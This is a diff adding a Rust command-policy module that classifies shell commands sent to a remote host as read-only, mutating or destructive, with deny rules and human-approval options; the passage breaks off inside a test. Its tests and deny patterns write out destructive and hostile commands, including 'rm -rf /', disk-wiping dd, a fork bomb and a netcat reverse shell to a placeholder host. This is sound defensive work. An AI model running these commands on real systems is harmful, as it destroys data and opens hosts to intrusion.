@@ -0,0 +1,1272 @@
+use anyhow::{Context, Result};
+use regex::Regex;
+use std::borrow::Cow;
+use std::collections::{BTreeMap, BTreeSet};
+
+/// Programs that only inspect state. Entries with subcommands are checked separately.
+const READ_ONLY_PROGRAMS: &[&str] = &[
+    "cat",
+    "head",
+    "tail",
+    "less",
+    "more",
+    "grep",
+    "egrep",
+    "fgrep",
+    "rg",
+    "zgrep",
+    "zcat",
+    "ls",
+    "ll",
+    "pwd",
+    "cd",
+    "echo",
+    "printf",
+    "whoami",
+    "id",
+    "groups",
+    "hostname",
+    "uname",
+    "uptime",
+    "date",
+    "df",
+    "du",
+    "free",
+    "ps",
+    "pgrep",
+    "top",
+    "htop",
+    "vmstat",
+    "iostat",
+    "mpstat",
+    "lsblk",
+    "lsof",
+    "lscpu",
+    "lsmod",
+    "lspci",
+    "lsusb",
+    "mount",
+    "findmnt",
+    "stat",
+    "file",
+    "wc",
+    "sort",
+    "uniq",
+    "cut",
+    "tr",
+    "column",
+    "jq",
+    "yq",
+    "diff",
+    "cmp",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "printenv",
+    "which",
+    "whereis",
+    "type",
+    "journalctl",
+    "dmesg",
+    "last",
+    "w",
+    "who",
+    "netstat",
+    "ss",
+    "ip",
+    "ifconfig",
+    "ping",
+    "dig",
+    "nslookup",
+    "host",
+    "getent",
+    "test",
+    "[",
+    "true",
+    "false",
+    "history",
+    "tree",
+    "realpath",
+    "readlink",
+    "basename",
+    "dirname",
+    "nproc",
+    "arch",
+    "locale",
+    "timedatectl",
+    "hostnamectl",
+    "sed",
+    "find",
+    "curl",
+    "wget",
+    "ncdu",
+    "base64",
+    "xxd",
+    "od",
+    "strings",
+    "openssl",
+    "dpkg-query",
+];
+
+const READ_ONLY_SUBCOMMANDS: &[(&str, &[&str])] = &[
+    (
+        "systemctl",
+        &[
+            "status",
+            "show",
+            "cat",
+            "list-units",
+            "list-unit-files",
+            "list-timers",
+            "list-sockets",
+            "is-active",
+            "is-enabled",
+            "is-failed",
+        ],
+    ),
+    (
+        "git",
+        &[
+            "status",
+            "log",
+            "diff",
+            "show",
+            "branch",
+            "remote",
+            "rev-parse",
+            "describe",
+            "blame",
+            "ls-files",
+            "tag",
+        ],
+    ),
+    (
+        "docker",
+        &[
+            "ps", "logs", "inspect", "images", "stats", "version", "info", "top", "port",
+        ],
+    ),
+    (
+        "kubectl",
+        &["get", "describe", "logs", "top", "version", "explain"],
+    ),
+    ("apt", &["list", "show", "policy", "search"]),
+    ("dpkg", &["-l", "-L", "-s", "--list", "--status"]),
+    ("rpm", &["-q", "-qa", "-qi", "-ql"]),
+    ("dnf", &["check-update", "list", "info", "repoquery"]),
+    ("yum", &["check-update", "list", "info"]),
+    ("apk", &["info", "list", "version", "policy", "search"]),
+    ("pacman", &["-Q", "-Qi", "-Ql", "-Qu", "-Si", "-Ss"]),
+    ("crontab", &["-l"]),
+];
+
+/// Programs that run the rest of the line as a command, with their flags that
+/// take a value (`sudo -u root`, `nice -n 10`).
+const WRAPPERS: &[(&str, &[&str])] = &[
+    (
+        "sudo",
+        &[
+            "-u",
+            "-g",
+            "-C",
+            "-D",
+            "-h",
+            "-p",
+            "-r",
+            "-t",
+            "-T",
+            "-U",
+            "--user",
+            "--group",
+            "--chdir",
+            "--host",
+            "--prompt",
+            "--role",
+            "--type",
+            "--other-user",
+        ],
+    ),
+    ("nice", &["-n", "--adjustment"]),
+    (
+        "env",
+        &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"],
+    ),
+    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
+    ("time", &["-f", "-o", "--format", "--output"]),
+    ("nohup", &[]),
+    ("command", &[]),
+    ("exec", &["-a"]),
+];
+
+/// Interpreters whose scripts are shell commands the policy can read.
+const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash"];
+
+/// Default deny rules: (name, pattern).
+const DEFAULT_DENY_RULES: &[(&str, &str)] = &[
+    (
+        "recursive-rm",
+        r"(^|\s)rm\s(.*\s)?(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)(\s|$)",
+    ),
+    ("mkfs", r"^(sudo\s+)?mkfs(\.[a-z0-9]+)?(\s|$)"),
+    ("dd-write", r"^(sudo\s+)?dd\s+.*\bof="),
+    (
+        "power-state",
+        r"^(sudo\s+)?(shutdown|reboot|halt|poweroff)(\s|$)",
+    ),
+    ("init-runlevel", r"^(sudo\s+)?(init|telinit)\s+[06](\s|$)"),
+    (
+        "partitioning",
+        r"^(sudo\s+)?(wipefs|fdisk|sfdisk|gdisk|parted|mkswap)(\s|$)",
+    ),
+    ("block-device-write", r">\s*/dev/(sd|hd|vd|xvd|nvme|mmcblk)"),
+    ("fork-bomb", r":\(\)\s*\{\s*:\s*\|\s*:"),
+    (
+        "chmod-root",
+        r"(^|\s)(chmod|chown)\s+(-[a-zA-Z]*R[a-zA-Z]*\s+)\S+\s+/(\s|$)",
+    ),
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CommandClass {
+    /// Only inspects state.
+    ReadOnly,
+    /// May change state but matches no deny rule.
+    Mutating,
+    /// Matches a deny rule.
+    Destructive,
+}
+
+impl std::fmt::Display for CommandClass {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            CommandClass::ReadOnly => write!(f, "read-only"),
+            CommandClass::Mutating => write!(f, "mutating"),
+            CommandClass::Destructive => write!(f, "destructive"),
+        }
+    }
+}
+
+#[derive(Debug, Clone)]
+pub struct PolicyRule {
+    pub name: String,
+    pattern: Regex,
+}
+
+impl PolicyRule {
+    pub fn new(name: &str, pattern: &str) -> Result<Self> {
+        let pattern = Regex::new(pattern)
+            .with_context(|| format!("Invalid policy pattern for rule '{}'", name))?;
+        Ok(Self {
+            name: name.to_string(),
+            pattern,
+        })
+    }
+
+    pub fn pattern(&self) -> &str {
+        self.pattern.as_str()
+    }
+
+    fn is_match(&self, text: &str) -> bool {
+        self.pattern.is_match(text)
+    }
+}
+
+/// Why a command was refused.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PolicyViolation {
+    pub rule: String,
+    pub reason: String,
+    pub command: String,
+    /// A human may approve the command instead of it being blocked outright.
+    pub approvable: bool,
+}
+
+impl std::fmt::Display for PolicyViolation {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "Command blocked by policy ({}): {}",
+            self.rule, self.reason
+        )
+    }
+}
+
+impl std::error::Error for PolicyViolation {}
+
+/// Evaluates commands before they are sent to a remote shell.
+#[derive(Debug, Clone)]
+pub struct CommandPolicy {
+    deny: Vec<PolicyRule>,
+    allow: Vec<PolicyRule>,
+    read_only: bool,
+    approval: bool,
+    /// Extra rules for sessions carrying a tag.
+    tags: BTreeMap<String, TagRules>,
+    /// The tag that made this policy read-only, for the violation message.
+    read_only_tag: Option<String>,
+}
+
+/// Rules that tighten the policy for sessions with a tag, e.g. `prod`.
+/// They can only make it stricter.
+#[derive(Debug, Clone, Default)]
+pub struct TagRules {
+    read_only: bool,
+    approval: bool,
+    deny: Vec<PolicyRule>,
+}
+
+impl TagRules {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    pub fn read_only(mut self, read_only: bool) -> Self {
+        self.read_only = read_only;
+        self
+    }
+
+    pub fn require_approval(mut self, approval: bool) -> Self {
+        self.approval = approval;
+        self
+    }
+
+    pub fn deny_pattern(mut self, pattern: &str) -> Result<Self> {
+        let name = format!("deny-{}", self.deny.len() + 1);
+        self.deny.push(PolicyRule::new(&name, pattern)?);
+        Ok(self)
+    }
+}
+
+impl Default for CommandPolicy {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl CommandPolicy {
+    /// Policy with the built-in deny rules, no allowlist, read-write.
+    pub fn new() -> Self {
+        let deny = DEFAULT_DENY_RULES
+            .iter()
+            .map(|(name, pattern)| {
+                PolicyRule::new(name, pattern).expect("built-in policy pattern should be valid")
+            })
+            .collect();
+        Self {
+            deny,
+            allow: Vec::new(),
+            read_only: false,
+            approval: false,
+            tags: BTreeMap::new(),
+            read_only_tag: None,
+        }
+    }
+
+    /// Applies `rules` on top of this policy to sessions tagged `tag`.
+    /// Its deny rules are named after the tag, e.g. `prod-deny-1`.
+    pub fn tag_rules(mut self, tag: &str, mut rules: TagRules) -> Self {
+        for rule in &mut rules.deny {
+            rule.name = format!("{}-{}", tag, rule.name);
+        }
+        self.tags.insert(tag.to_string(), rules);
+        self
+    }
+
+    /// This policy tightened by the rules of `tags`.
+    pub fn for_tags(&self, tags: &BTreeSet<String>) -> Cow<'_, Self> {
+        let mut tagged = tags
+            .iter()
+            .filter_map(|tag| Some((tag, self.tags.get(tag)?)))
+            .peekable();
+        if tagged.peek().is_none() {
+            return Cow::Borrowed(self);
+        }
+        let mut policy = self.clone();
+        for (tag, rules) in tagged {
+            if rules.read_only && !policy.read_only {
+                policy.read_only = true;
+                policy.read_only_tag = Some(tag.clone());
+            }
+            policy.approval |= rules.approval;
+            policy.deny.extend(rules.deny.iter().cloned());
+        }
+        Cow::Owned(policy)
+    }
+
+    /// Only allow commands classified as read-only.
+    pub fn read_only(mut self, read_only: bool) -> Self {
+        self.read_only = read_only;
+        self
+    }
+
+    /// Let deny-rule matches be approved by a human instead of hard-blocking them.
+    /// Allowlist and read-only violations are never approvable.
+    pub fn require_approval(mut self, approval: bool) -> Self {
+        self.approval = approval;
+        self
+    }
+
+    pub fn deny_pattern(mut self, pattern: &str) -> Result<Self> {
+        let name = format!("deny-{}", self.deny.len() + 1);
+        self.deny.push(PolicyRule::new(&name, pattern)?);
+        Ok(self)
+    }
+
+    /// Adding any allow pattern switches to allowlist mode: every command segment
+    /// must match at least one allow pattern.
+    pub fn allow_pattern(mut self, pattern: &str) -> Result<Self> {
+        let name = format!("allow-{}", self.allow.len() + 1);
+        self.allow.push(PolicyRule::new(&name, pattern)?);
+        Ok(self)
+    }
+
+    pub fn is_read_only(&self) -> bool {
+        self.read_only
+    }
+
+    pub fn is_approval_required(&self) -> bool {
+        self.approval
+    }
+
+    pub fn is_allowlist(&self) -> bool {
+        !self.allow.is_empty()
+    }
+
+    pub fn classify(&self, command: &str) -> CommandClass {
+        if self.matching_deny_rule(command).is_some() {
+            return CommandClass::Destructive;
+        }
+        if is_read_only_command(command) {
+            CommandClass::ReadOnly
+        } else {
+            CommandClass::Mutating
+        }
+    }
+
+    pub fn check(&self, command: &str) -> Result<CommandClass, PolicyViolation> {
+        let violation = |rule: &str, reason: String| PolicyViolation {
+            rule: rule.to_string(),
+            reason,
+            command: command.to_string(),
+            approvable: false,
+        };
+
+        // Before deny rules, so approving a deny match can't get a command
+        // outside the allowlist through.
+        if self.is_allowlist() {
+            if has_substitution(command) {
+                return Err(violation(
+                    "allowlist",
+                    "command and process substitutions can't be checked against the allowlist"
+                        .to_string(),
+                ));
+            }
+            for segment in split_segments(command) {
+                if !self.allow.iter().any(|rule| rule.is_match(&segment)) {
+                    return Err(violation(
+                        "allowlist",
+                        format!("`{}` does not match any allowed pattern", segment),
+                    ));
+                }
+            }
+        }
+
+        if let Some(rule) = self.matching_deny_rule(command) {
+            return Err(PolicyViolation {
+                approvable: self.approval && !self.read_only,
+                ..violation(
+                    &rule.name,
+                    format!("matches deny pattern `{}`", rule.pattern()),
+                )
+            });
+        }
+
+        let class = self.classify(command);
+
+        if self.read_only && class != CommandClass::ReadOnly {
+            let mode = match &self.read_only_tag {
+                Some(tag) => format!("sessions tagged '{}' are read-only", tag),
+                None => "server is in read-only mode".to_string(),
+            };
+            return Err(violation(
+                "read-only",
+                format!("{} and the command may modify the host", mode),
+            ));
+        }
+
+        Ok(class)
+    }
+
+    /// Checks a script run with `interpreter`: the interpreter and every line,
+    /// with backslash-newline continuations joined. Scripts for other
+    /// interpreters, e.g. `python3`, can't be read as commands, so read-only
+    /// and allowlist policies refuse them and approval mode asks for them.
+    pub fn check_script(
+        &self,
+        interpreter: &str,
+        script: &str,
+    ) -> Result<CommandClass, PolicyViolation> {
+        let command = format!(
+            "{}\n{}",
+            interpreter,
+            script.replace("\\\r\n", "").replace("\\\n", "")
+        );
+        let program = command_words(interpreter).first().map(|p| program_name(p));
+        let is_shell = program.is_some_and(|p| SHELLS.contains(&p));
+        let violation = |approvable| PolicyViolation {
+            rule: "interpreter".to_string(),
+            reason: format!(
+                "`{}` scripts can't be checked line by line",
+                program.unwrap_or(interpreter)
+            ),
+            command: command.clone(),
+            approvable,
+        };
+
+        if !is_shell && (self.read_only || self.is_allowlist()) {
+            return Err(violation(false));
+        }
+        let class = self.check(&command)?;
+        if !is_shell && self.approval {
+            return Err(violation(true));
+        }
+        Ok(class)
+    }
+
+    /// The first deny rule matching the command, one of its segments, or a
+    /// segment as run: from the program's basename on, past wrappers.
+    fn matching_deny_rule(&self, command: &str) -> Option<&PolicyRule> {
+        let segments = split_segments(command);
+        let normalized: Vec<String> = segments
+            .iter()
+            .map(|segment| {
+                let mut words = command_words(segment);
+                if let Some(program) = words.first_mut() {
+                    *program = program_name(program);
+                }
+                words.join(" ")
+            })
+            .collect();
+        self.deny.iter().find(|rule| {
+            rule.is_match(command)
+                || segments
+                    .iter()
+                    .chain(&normalized)
+                    .any(|segment| rule.is_match(segment))
+        })
+    }
+}
+
+/// Splits a command line on `;`, `&&`, `||`, `|`, `&` and newlines outside quotes.
+pub fn split_segments(command: &str) -> Vec<String> {
+    split_commands(command)
+        .into_iter()
+        .map(|(segment, _)| segment)
+        .collect()
+}
+
+/// The pipelines of a command line, each as its segments in order.
+pub fn split_pipelines(command: &str) -> Vec<Vec<String>> {
+    let mut pipelines: Vec<Vec<String>> = Vec::new();
+    let mut piped = false;
+    for (segment, pipes_on) in split_commands(command) {
+        match pipelines.last_mut() {
+            Some(pipeline) if piped => pipeline.push(segment),
+            _ => pipelines.push(vec![segment]),
+        }
+        piped = pipes_on;
+    }
+    pipelines
+}
+
+/// Segments of a command line, each with whether its output is piped into
+/// the next one.
+fn split_commands(command: &str) -> Vec<(String, bool)> {
+    let mut segments = Vec::new();
+    let mut current = String::new();
+    let mut chars = command.chars().peekable();
+    let mut quote: Option<char> = None;
+
+    while let Some(c) = chars.next() {
+        match quote {
+            Some(q) => {
+                current.push(c);
+                if c == q {
+                    quote = None;
+                } else if c == '\\'
+                    && q == '"'
+                    && let Some(next) = chars.next()
+                {
+                    current.push(next);
+                }
+            }
+            None => match c {
+                '\'' | '"' => {
+                    quote = Some(c);
+                    current.push(c);
+                }
+                '\\' => {
+                    current.push(c);
+                    if let Some(next) = chars.next() {
+                        current.push(next);
+                    }
+                }
+                ';' | '\n' | '|' => {
+                    let pipe = c == '|' && chars.peek() != Some(&'|');
+                    if c == '|' && !pipe {
+                        chars.next();
+                    }
+                    segments.push((std::mem::take(&mut current), pipe));
+                }
+                '&' => {
+                    if chars.peek() == Some(&'&') {
+                        chars.next();
+                        segments.push((std::mem::take(&mut current), false));
+                    } else if current.ends_with('>') || chars.peek() == Some(&'>') {
+                        // `2>&1`, `&>file`
+                        current.push(c);
+                    } else {
+                        segments.push((std::mem::take(&mut current), false));
+                    }
+                }
+                _ => current.push(c),
+            },
+        }
+    }
+    segments.push((current, false));
+
+    segments
+        .into_iter()
+        .map(|(s, pipe)| (s.trim().to_string(), pipe))
+        .filter(|(s, _)| !s.is_empty())
+        .collect()
+}
+
+/// Words of a segment from the program on, past environment assignments and
+/// wrappers like `sudo`, `env` or `timeout`.
+pub fn command_words(segment: &str) -> Vec<&str> {
+    let mut words: Vec<&str> = segment.split_whitespace().collect();
+    while let Some(&first) = words.first() {
+        if first.contains('=') && !first.starts_with('=') {
+            words.remove(0);
+            continue;
+        }
+        let Some((wrapper, value_flags)) = WRAPPERS.iter().find(|(w, _)| *w == first) else {
+            break;
+        };
+        words.remove(0);
+        while let Some(&flag) = words.first().filter(|w| w.starts_with('-')) {
+            words.remove(0);
+            if flag == "--" {
+                break;
+            }
+            if value_flags.contains(&flag) && !words.is_empty() {
+                words.remove(0);
+            }
+        }
+        // `timeout [-s SIG] [-k DURATION] DURATION command...`
+        if *wrapper == "timeout" && !words.is_empty() {
+            words.remove(0);
+        }
+    }
+    words
+}
+
+/// Whether a read-only git subcommand only lists: `branch`, `tag` and
+/// `remote` also create, delete and rename with other arguments.
+fn is_git_listing(subcommand: &str, args: &[&str]) -> bool {
+    match subcommand {
+        "branch" | "tag" => {
+            let value_flags = [
+                "--contains",
+                "--no-contains",
+                "--merged",
+                "--no-merged",
+                "--points-at",
+                "--sort",
+                "--format",
+                "--column",
+            ];
+            let listing = args.iter().any(|a| matches!(*a, "-l" | "--list"));
+            args.iter().all(|a| {
+                !a.starts_with('-')
+                    || value_flags
+                        .iter()
+                        .any(|flag| a == flag || a.starts_with(&format!("{}=", flag)))
+                    || matches!(
+                        *a,
+                        "-l" | "--list"
+                            | "-a"
+                            | "--all"
+                            | "-r"
+                            | "--remotes"
+                            | "-v"
+                            | "-vv"
+                            | "--verbose"
+                            | "--show-current"
+                            | "--color"
+                            | "--no-color"
+                            | "--no-column"
+                            | "-i"
+                            | "--ignore-case"
+                    )
+                    || (subcommand == "tag" && a.starts_with("-n"))
+            }) && (listing || positional(args, &value_flags).is_empty())
+        }
+        "remote" => match positional(args, &[]).first() {
+            None => args.iter().all(|a| matches!(*a, "-v" | "--verbose")),
+            Some(action) => matches!(*action, "show" | "get-url"),
+        },
+        _ => true,
+    }
+}
+
+/// The program of a path like `/sbin/reboot`.
+fn program_name(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+/// Arguments that aren't flags or the values of `value_flags`.
+fn positional<'a>(args: &[&'a str], value_flags: &[&str]) -> Vec<&'a str> {
+    let mut positional = Vec::new();
+    let mut args = args.iter();
+    while let Some(&arg) = args.next() {
+        if value_flags.contains(&arg) {
+            args.next();
+        } else if !arg.starts_with('-') {
+            positional.push(arg);
+        }
+    }
+    positional
+}
+
+/// Whether a curl flag sends data or writes files. Short flags may be
+/// combined (`-sXPOST`, `-fsSLo out`), up to the first one taking a value.
+fn is_curl_write_flag(word: &str) -> bool {
+    // Prefixes, so `--data-binary` and `--remote-name-all` count too.
+    const LONG: &[&str] = &[
+        "request",
+        "data",
+        "json",
+        "form",
+        "upload-file",
+        "output",
+        "remote-name",
+        "cookie-jar",
+        "dump-header",
+    ];
+    if let Some(long) = word.strip_prefix("--") {
+        return LONG.iter().any(|flag| long.starts_with(flag));
+    }
+    let Some(short) = word.strip_prefix('-') else {
+        return false;
+    };
+    for letter in short.chars() {
+        match letter {
+            'X' | 'd' | 'F' | 'T' | 'o' | 'O' | 'c' | 'D' => return true,
+            'H' | 'u' | 'A' | 'e' | 'E' | 'b' | 'm' | 'w' | 'x' | 'K' | 'r' | 'U' | 'Y' | 'y'
+            | 'z' | 'Q' | 'P' => return false,
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Whether the command runs another one inside it: `$(...)`, backticks,
+/// `<(...)` or `>(...)`. Quotes aren't looked at, so a quoted one counts too.
+fn has_substitution(command: &str) -> bool {
+    ["$(", "`", "<(", ">("]
+        .iter()
+        .any(|token| command.contains(token))
+}
+
+fn has_output_redirect(segment: &str) -> bool {
+    let mut quote: Option<char> = None;
+    let bytes: Vec<char> = segment.chars().collect();
+    for (i, &c) in bytes.iter().enumerate() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == '\'' || c == '"' => quote = Some(c),
+            None if c == '>' => {
+                let rest: String = bytes[i + 1..].iter().collect();
+                let rest = rest.trim_start_matches('>').trim_start();
+                if rest.starts_with("&1") || rest.starts_with("&2") || rest.starts_with("/dev/null")
+                {
+                    continue;
+                }
+                return true;
+            }
+            None => {}
+        }
+    }
+    false
+}
+
+fn is_read_only_segment(segment: &str) -> bool {
+    if has_output_redirect(segment) {
+        return false;
+    }
+
+    let words = command_words(segment);
+    let Some(program) = words.first() else {
+        return true;
+    };
+    let program = program_name(program);
+
+    let args = &words[1..];
+
+    if let Some((_, subcommands)) = READ_ONLY_SUBCOMMANDS.iter().find(|(p, _)| *p == program) {
+        let Some(at) = args.iter().position(|w| !w.starts_with("--no-pager")) else {
+            return false;
+        };
+        if !subcommands.contains(&args[at]) {
+            return false;
+        }
+        return program != "git" || is_git_listing(args[at], &args[at + 1..]);
+    }
+
+    // Port checks only; `-e`, `-c` and `-l` run or serve commands.
+    if program == "nc" {
+        return args.contains(&"-z")
+            && !args.iter().any(|a| {
+                a.starts_with('-') && !a.starts_with("--") && a.contains(['e', 'c', 'l'])
+            });
+    }
+
+    if !READ_ONLY_PROGRAMS.contains(&program) {
+        return false;
+    }
+
+    match program {
+        "sed" => !words
+            .iter()
+            .any(|w| w.starts_with("-i") || *w == "--in-place"),
+        "find" => !words.iter().any(|w| {
+            matches!(
+                *w,
+                "-delete"
+                    | "-exec"
+                    | "-execdir"
+                    | "-ok"
+                    | "-okdir"
+                    | "-fprint"
+                    | "-fprint0"
+                    | "-fprintf"
+                    | "-fls"
+            )
+        }),
+        // `-o FILE` writes the result, also inside a cluster like `-rno`.
+        "sort" => !args.iter().any(|a| {
+            a.starts_with("--output")
+                || (a.starts_with('-') && !a.starts_with("--") && a.contains('o'))
+        }),
+        // `uniq IN OUT` writes OUT.
+        "uniq" => {
+            let value_flags = ["-f", "-s", "-w"];
+            positional(args, &value_flags).len() < 2
+        }
+        "journalctl" => !args.iter().any(|a| {
+            a.starts_with("--vacuum-")
+                || matches!(
+                    *a,
+                    "--rotate"
+                        | "--flush"
+                        | "--sync"
+                        | "--relinquish-var"
+                        | "--smart-relinquish-var"
+                        | "--setup-keys"
+                        | "--update-catalog"
+                )
+        }),
+        // `-c`/`-C` clear the ring buffer, `-D`/`-E`/`-n` change console logging.
+        "dmesg" => !args.iter().any(|a| {
+            a.starts_with("--clear")
+                || a.starts_with("--read-clear")
+                || a.starts_with("--console-")
+                || (a.starts_with('-')
+                    && !a.starts_with("--")
+                    && a.contains(['c', 'C', 'D', 'E', 'n']))
+        }),
+        "curl" => !args.iter().any(|w| is_curl_write_flag(w)),
+        // `ip link set`, `ip addr add`: only listing the object is read-only.
+        "ip" => {
+            let value_flags = [
+                "-n", "-netns", "-f", "-family", "-b", "-batch", "-l", "-loops",
+            ];
+            positional(args, &value_flags)
+                .get(1)
+                .is_none_or(|action| matches!(*action, "show" | "list" | "lst" | "ls" | "get"))
+        }
+        "ifconfig" => positional(args, &[]).len() <= 1,
+        // Listing is `mount` alone, `-l` and `-t TYPE`; `-a` mounts everything.
+        "mount" => {
+            let mut args = args.iter();
+            while let Some(&arg) = args.next() {
+                match arg {
+                    "-l" | "--show-labels" => {}
+                    "-t" | "--types" => {
+                        args.next();
+                    }
+                    _ => return false,
+                }
+            }
+            true
+        }
+        "hostname" => {
+            positional(args, &[]).is_empty()
+                && !args
+                    .iter()
+                    .any(|a| matches!(*a, "-F" | "--file" | "-b" | "--boot"))
+        }
+        "hostnamectl" | "timedatectl" => {
+            let value_flags = ["-H", "--host", "-M", "--machine"];
+            positional(args, &value_flags).first().is_none_or(|sub| {
+                matches!(
+                    *sub,
+                    "status" | "show" | "timesync-status" | "show-timesync" | "list-timezones"
+                )
+            })
+        }
+        // `date -s`, `date --set=...` and `date MMDDhhmm` set the clock.
+        "date" => {
+            let value_flags = ["-d", "--date", "-r", "--reference", "-f", "--file"];
+            !args
+                .iter()
+                .any(|a| a.starts_with("-s") || a.starts_with("--set"))
+                && !positional(args, &value_flags)
+                    .iter()
+                    .any(|a| a.chars().all(|c| c.is_ascii_digit() || c == '.'))
+        }
+        "wget" => words
+            .iter()
+            .any(|w| *w == "-O-" || *w == "-qO-" || *w == "--spider"),
+        "openssl" => words
+            .get(1)
+            .is_some_and(|s| matches!(*s, "x509" | "s_client" | "version")),
+        _ => true,
+    }
+}
+
+/// True if every segment of the command only inspects state.
+pub fn is_read_only_command(command: &str) -> bool {
+    if has_substitution(command) {
+        return false;
+    }
+    split_segments(command)
+        .iter()
+        .all(|segment| is_read_only_segment(segment))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_split_segments() {
+        assert_eq!(
+            split_segments("cd /var/log && ls -la | grep 'a;b' ; echo done"),
+            vec!["cd /var/log", "ls -la", "grep 'a;b'", "echo done"]
+        );
+        assert_eq!(
+            split_segments("make 2>&1 || true"),
+            vec!["make 2>&1", "true"]
+        );
+        assert_eq!(
+            split_pipelines("cd /tmp && ps aux | grep 'a|b' | head; man ls"),
+            vec![
+                vec!["cd /tmp"],
+                vec!["ps aux", "grep 'a|b'", "head"],
+                vec!["man ls"]
+            ]
+        );
+    }
+
+    #[test]
+    fn test_default_deny_rules() {
+        let policy = CommandPolicy::new();
+        for cmd in [
+            "rm -rf /",
+            "sudo rm -fr /var/lib/data",
+            "ls && rm --recursive x",
+            "mkfs.ext4 /dev/sdb1",
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            "sudo shutdown -h now",
+            "reboot",
+            "init 0",
+            "echo x > /dev/sda",
+            ":(){ :|:& };:",
+            "/bin/rm -rf /",
+            "rm -f -r /",
+            "rm /x -rf",
+            "/sbin/reboot",
+            "timeout 5 reboot",
+            "nohup reboot",
+            "sudo -n mkfs.ext4 /dev/sda",
+        ] {
+            let err = policy.check(cmd).unwrap_err();
+            assert_eq!(err.command, cmd);
+            assert_eq!(policy.classify(cmd), CommandClass::Destructive, "{}", cmd);
+        }
+
+        assert!(policy.check("rm file.txt").is_ok());
+        assert!(policy.check("rm -f /tmp/x-r").is_ok());
+        assert!(policy.check("grep reboot /var/log/syslog").is_ok());
+        assert!(policy.check("ls -la /tmp").is_ok());
+    }
+
+    #[test]
+    fn test_classification() {
+        let policy = CommandPolicy::new();
+        assert_eq!(policy.classify("ls -la"), CommandClass::ReadOnly);
+        assert_eq!(
+            policy.classify("cd /var/log && tail -n 50 syslog | grep ERROR"),
+            CommandClass::ReadOnly
+        );
+        assert_eq!(
+            policy.classify("systemctl status nginx --no-pager"),
+            CommandClass::ReadOnly
+        );
+        assert_eq!(
+            policy.classify("systemctl restart nginx"),
+            CommandClass::Mutating
+        );
+        assert_eq!(policy.classify("sed -i s/a/b/ f"), CommandClass::Mutating);
+        assert_eq!(
+            policy.classify("find /tmp -name '*.log' -delete"),
+            CommandClass::Mutating
+        );
+        assert_eq!(policy.classify("echo hi > file"), CommandClass::Mutating);
+        assert_eq!(policy.classify("cat f 2>/dev/null"), CommandClass::ReadOnly);
+        assert_eq!(policy.classify("echo $(touch x)"), CommandClass::Mutating);
+        assert_eq!(policy.classify("ls `reboot`"), CommandClass::Mutating);
+        assert_eq!(policy.classify("cat <(touch x)"), CommandClass::Mutating);
+        assert_eq!(policy.classify("diff a >(tee b)"), CommandClass::Mutating);
+        assert_eq!(
+            policy.classify("sudo journalctl -u nginx --no-pager"),
+            CommandClass::ReadOnly
+        );
+        assert_eq!(
+            policy.classify("timeout -k 2 10 find / -name '*.conf' | head -n 5"),
+            CommandClass::ReadOnly
+        );
+        assert_eq!(
+            policy.classify("timeout 10 rm -rf /tmp/x"),
+            CommandClass::Destructive
+        );
+    }
+
+    #[test]
+    fn test_read_only_subcommands_and_flags() {
+        let policy = CommandPolicy::new();
+        for cmd in [
+            "ip -br addr",
+            "ip -4 route get 1.1.1.1",
+            "ip -s link show dev eth0",
+            "ifconfig eth0",
+            "mount",
+            "mount -t ext4",
+            "hostname -f",
+            "hostnamectl",
+            "timedatectl status",
+            "date -u +%s",
+            "date -d 20240101 +%A",
+            "env",
+            "env -u PAGER LANG=C cat /etc/os-release",
+            "sudo -u www-data cat /srv/app/.env",
+            "nice -n 10 du -sh /var",
+            "timeout 5 nc -z -v -w 5 db 5432",
+            "curl -fsSL https://example.com/health",
+            "curl -H 'Accept: text/plain' https://example.com",
+            "git branch",
+            "git branch -a --sort=-committerdate",
+            "git branch --list 'feat*'",
+            "git branch --contains abc123",
+            "git tag -l 'v1.*'",
+            "git remote -v",
+            "git remote show origin",
+            "sort -k2 -n data.txt",
+            "uniq -c -f 1 data.txt",
+            "journalctl -u nginx --since today",
+            "dmesg -T --level=err",
+            "find / -name '*.conf' -print",
+        ] {
+            assert_eq!(policy.classify(cmd), CommandClass::ReadOnly, "{}", cmd);
+        }
+
+        for cmd in [
+            "ip link set eth0 down",
+            "ip addr add 10.0.0.2/24 dev eth0",
+            "ifconfig eth0 down",
+            "mount /dev/sdb1 /mnt",
+            "mount -a",
+            "hostname web-2",
+            "hostnamectl set-hostname web-2",
+            "timedatectl set-time '2024-01-01 00:00'",
+            "date -s '2024-01-01'",
+            "date --set=12:00",
+            "date 010112002024",
+            "env rm -f /tmp/x",
+            "env -i PATH=/bin sh -c 'touch x'",
+            "nice -n 10 touch x",
+            "awk 'BEGIN{system(\"touch x\")}'",
+            "nc -e /bin/sh attacker 4444",
+            "nc -lp 4444",
+            "nc db 5432",
+            "curl --output /tmp/x https://example.com",
+            "curl -XPOST https://example.com",
+            "curl -sX POST https://example.com",
+            "curl --data-binary @file https://example.com",
+            "curl -fsSLo /tmp/x https://example.com",
+            "curl -c jar https://example.com",
+            "git branch -D old",
+            "git branch feature",
+            "git branch -m old new",
+            "git tag -d v1",
+            "git tag v2",
+            "git remote remove origin",
+            "git remote set-url origin git@example.com:x.git",
+            "sort -o data.txt data.txt",
+            "sort -rno out data.txt",
+            "sort --output=out data.txt",
+            "uniq in.txt out.txt",
+            "journalctl --vacuum-time=1d",
+            "journalctl --rotate",
+            "dmesg -C",
+            "dmesg -c",
+            "dmesg -Tc",
+            "find / -fprintf out %p",
+            "find / -fls out",
+            "find / -fprint0 out",
+        ] {
